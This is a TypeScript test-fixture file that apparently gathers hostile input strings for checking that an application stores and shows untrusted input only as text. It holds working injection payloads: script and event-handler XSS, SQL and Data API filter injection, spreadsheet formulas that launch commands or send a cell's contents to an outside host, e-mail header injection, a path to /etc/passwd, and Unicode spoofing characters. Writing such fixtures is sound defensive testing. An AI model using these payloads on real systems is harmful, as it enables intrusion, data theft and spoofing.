/**
 * Text that somebody outside might put where we expect a name, a message or a value, each with what it tries. None of it may be
 * anything but text: not on the page, not in an e-mail, not in a spreadsheet, not in SQL.
 */
const code = (...points: number[]): string => String.fromCodePoint(...points);

export const NUL = code(0);
export const RIGHT_TO_LEFT_OVERRIDE = code(0x202e);
/** Half a character: JavaScript holds it, UTF-8 and Postgres cannot. */
export const LONE_HIGH = '\ud83d';
export const LONE_LOW = '\ude00';

export const HOSTILE_TEXTS: Record<string, string> = {
  'a script': '<script>window.attacked = true</script>',
  'an image with a handler': '<img src=x onerror="window.attacked = true">',
  'an end of an attribute': '"><svg onload=window.attacked=true>',
  'an end of a script': '</script></title></textarea><script>window.attacked = true</script>',
  'a script address': 'javascript:window.attacked=true//',
  'an entity': '&lt;script&gt;window.attacked = true&lt;/script&gt;&#x3c;b&#x3e;',
  'a template': '{{constructor.constructor("window.attacked=true")()}} ${window.attacked=true} <%= 1 %>',
  'SQL': "'; drop table records; --",
  'SQL in a comment': "1' or '1'='1' /* ",
  'a filter of the Data API': 'eq.1,or(id.gt.0))&select=*',
  'a formula': '=HYPERLINK("https://vendor.example.org/?x="&A1,"open")',
  'a formula with plus': '+1+cmd|\' /C calc\'!A0',
  'a formula with minus': '-2+3+cmd|\' /C calc\'!A0',
  'a formula with at': '@SUM(1+1)*cmd|\' /C calc\'!A0',
  'a formula after a tab': '\t=1+1',
  'a formula after a return': '\r=1+1',
  'a formula in full width': `${code(0xff1d)}1+1`,
  'a formula after spaces': '  =1+1',
  'the end of a cell': '","=1+1',
  'another line of a table': 'a\r\n=1+1;b',
  'another header': 'Subject\r\nBcc: everybody@example.org\r\n\r\nhello',
  'a bare return': 'first\rsecond',
  'control characters': Array.from({ length: 31 }, (_, index) => code(index + 1)).join('') + code(0x7f, 0x85, 0x9b),
  'colours of a terminal': `${code(27)}[31mred${code(27)}[0m${code(27)}]0;title${code(7)}`,
  'text turned around': `invoice${RIGHT_TO_LEFT_OVERRIDE}fdp.exe`,
  'marks of direction': [0x200e, 0x200f, 0x061c, 0x202a, 0x202b, 0x202c, 0x202d, 0x2066, 0x2067, 0x2068, 0x2069].map((one) => code(one)).join('a'),
  'invisible characters': [0x200b, 0x2060, 0xfeff, 0x00ad, 0x180e, 0x2063, 0x115f, 0x3164, 0xffa0].map((one) => code(one)).join('b'),
  'letters of a tag': `plain${[...'hidden order'].map((letter) => code(0xe0000 + letter.charCodeAt(0))).join('')}`,
  'line separators': `a${code(0x2028)}b${code(0x2029)}c`,
  'accents without end': `e${code(0x0301).repeat(2_000)}`,
  'letters of two bytes to four': `æøå${code(0x4e2d, 0x6587)}${code(0x1f600)}`,
  'nothing': '',
  'spaces': ' \t\n ',
  'the word null': 'null',
  'a name every object has': '__proto__',
  'another': 'constructor',
  'a path': '../../../../etc/passwd',
  'a format': '%s%n%x %1$*1000000d',
};

/** What no text column of Postgres can hold: refused where it comes in, replaced where a system says it. */
export const UNSTORABLE_TEXTS: Record<string, string> = {
  'a NUL': `a${NUL}b`,
  'half a character': `a${LONE_HIGH}b`,
  'the other half': `${LONE_LOW}b`,
  'halves the wrong way round': `${LONE_LOW}${LONE_HIGH}`,
};
